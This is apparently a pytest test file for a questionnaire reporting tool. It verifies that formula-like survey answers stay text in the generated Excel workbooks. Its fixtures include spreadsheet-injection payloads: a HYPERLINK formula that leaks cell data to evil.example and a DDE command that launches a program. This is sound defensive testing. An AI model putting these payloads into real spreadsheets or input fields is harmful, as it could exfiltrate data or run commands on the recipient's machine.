"""Respondents' formula-like answers never become formulas in any workbook we write.

A reply whose every text answer looks like a formula (``=HYPERLINK(...)``,
``@SUM(...)``, ``+1``, ``-1``...) goes through the country report and, via the
store, the aggregate report with its confidential annex. Every cell of every
sheet is scanned: no ``<f>`` element anywhere, and every formula-like answer
that appears is a string.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from selfassess.definitions.parties import load_parties
from selfassess.definitions.questionnaire import load_questionnaire
from selfassess.reports import write_country_report
from selfassess.reports.aggregate_xlsx import write_report_xlsx
from selfassess.response.interpret import Answer, ParseResult
from selfassess.scoring import response_with, score
from selfassess.secretariat.aggregate import aggregate
from selfassess.secretariat.ingest import ingest_paths
from selfassess.store import Store

FORMULA_LIKE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)",
    "+1",
    "-1",
    "=cmd|' /C calc'!A0",
    " =1+1",
)
S_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def hostile_reply(country: str = "MX") -> ParseResult:
    q = load_questionnaire()
    texts = [it for it in q.items() if it.type == "text"]
    answers: dict[str, Answer] = {
        it.id: FORMULA_LIKE[n % len(FORMULA_LIKE)] for n, it in enumerate(texts)
    }
    # Answered so that the report has figures and needs to show beside the text.
    answers |= {"wg14_c_status": "partially", "wg14_c_ta_needed": "yes"}
    r = response_with(q, answers)
    form = r.form.model_copy(
        update={"country": country, "form_id": "fhostile", "issued": dt.date(2025, 1, 15)}
    )
    return r.model_copy(update={"form": form})


def formulas_and_strings(data: bytes) -> tuple[list[str], set[str]]:
    """Every ``<f>`` element of every sheet, and every string value of every cell."""
    formulas: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(zf.read(name))
                formulas += [el.text or "" for el in root.iter(S_NS + "f")]
    strings: set[str] = set()
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    strings.add(cell.value)
    return formulas, strings


def test_country_report_workbook_keeps_answers_as_text() -> None:
    q = load_questionnaire()
    reply = hostile_reply()
    out = io.BytesIO()
    write_country_report(score(reply, q), reply, q, out, fmt="xlsx")
    formulas, strings = formulas_and_strings(out.getvalue())
    assert formulas == []
    shown = {text for text in FORMULA_LIKE if any(text in s for s in strings)}
    assert shown, "the report shows none of the answers: the test would prove nothing"


@pytest.mark.parametrize("detail", [False, True])
def test_aggregate_report_workbook_has_no_formula(tmp_path: Path, detail: bool) -> None:
    for country in ("MX", "FR", "KE"):
        (tmp_path / f"{country}.json").write_text(hostile_reply(country).model_dump_json())
    with Store(tmp_path / "s.sqlite") as store:
        ingest_paths(store, [tmp_path])
        report = aggregate(store, load_parties(), country_detail=detail, as_of=dt.date(2025, 6, 1))
    out = io.BytesIO()
    write_report_xlsx(report, out)
    formulas, _strings = formulas_and_strings(out.getvalue())
    assert formulas == []
